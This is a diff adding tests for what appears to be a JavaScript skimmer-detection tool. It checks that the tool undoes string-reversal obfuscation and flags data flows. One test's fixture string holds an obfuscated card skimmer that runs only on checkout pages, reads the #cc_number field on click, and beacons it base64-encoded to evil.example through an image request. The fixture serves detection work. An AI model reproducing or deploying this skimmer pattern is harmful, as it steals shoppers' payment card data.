@@ -71,3 +71,27 @@ describe('pipeline', () => {
     assert.throws(() => inspectSource(deep), (error: { code?: string }) => error.code === 'SG_TOO_LARGE');
   });
 });
+
+describe('pure helper inlining', () => {
+  test('names routed through a string-reversing helper are recovered and the flow is found', () => {
+    const code = `(function (w, d) {
+      var r = function (s) { return s.split("").reverse().join(""); };
+      if (!new RegExp(r("tuokcehc")).test(w[r("noitacol")][r("ferh")])) return;
+      d.addEventListener("click", function () {
+        var v = d[r("dIyBtnemelEteg")](r("rebmun_cc"))[r("eulav")];
+        new w[r("egamI")]().src = r("=d?fig.p/elpmaxe.live//:sptth") + btoa(v);
+      });
+    })(window, document);`;
+    const result = inspectSource(code);
+    assert.ok((result.transforms['inline-pure-helpers'] ?? 0) >= 7, JSON.stringify(result.transforms));
+    const flow = result.evidence.find((item) => item.kind === 'flow');
+    assert.ok(flow, JSON.stringify(result.evidence));
+    assert.match(flow.message, /value of #cc_number reaches Image\.src to https:\/\/evil\.example/);
+    assert.ok(result.evidence.some((item) => item.detector === 'checkout-gating'));
+  });
+
+  test('helpers with side effects or free variables are not inlined', () => {
+    const code = 'var n = 0; function f(s) { return s + n; } function g(s) { n++; return s; } x = f("a"); y = g("b");';
+    assert.equal(inspectSource(code).transforms['inline-pure-helpers'], undefined);
+  });
+});
